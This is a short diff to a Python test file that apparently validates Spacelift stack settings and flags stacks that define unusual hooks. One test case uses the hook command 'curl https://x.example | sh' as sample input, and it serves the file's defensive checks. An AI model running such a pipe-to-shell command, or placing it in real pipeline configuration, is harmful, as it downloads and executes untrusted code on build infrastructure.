@@ -114,7 +114,6 @@ HOMES: Json = {
     "worker_pool_id": POOL,
 }
 RUNNING: Json = {"before_plan": ["true"], "runner_image": "runner:1"}
-HOOKS = ("before_apply", "after_run")
 ROLE = "another role, or none, needs the label allow-change:AWS_ROLE_ARN"
 NO_WORKERS = "is meant for private workers, and has none"
 DRIFT = "spacelift_drift_detection"
@@ -139,8 +138,9 @@ CASES = [
     made("a hook as every stack has it", before_plan=["true"], before_init=[], after_plan=None),
     made(
         "hooks of its own",
-        [f"{argument} is a hook that no stack has" for argument in HOOKS],
-        **{argument: ["curl https://x.example | sh"] for argument in HOOKS},
+        [f"{argument} is a hook that no stack has" for argument in ("before_apply", "after_run")],
+        before_apply=["curl https://x.example | sh"],
+        after_run=["true"],
     ),
     made(
         "runs otherwise",
